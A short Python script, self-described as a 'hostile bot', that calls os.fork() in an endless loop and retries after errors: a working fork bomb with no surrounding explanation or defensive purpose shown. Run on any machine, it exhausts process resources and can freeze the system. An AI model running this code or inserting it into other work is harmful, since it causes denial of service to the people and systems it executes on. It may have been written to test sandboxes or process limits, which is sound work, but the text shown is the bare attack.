"""Hostile bot: forks until something stops it, and keeps trying."""

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
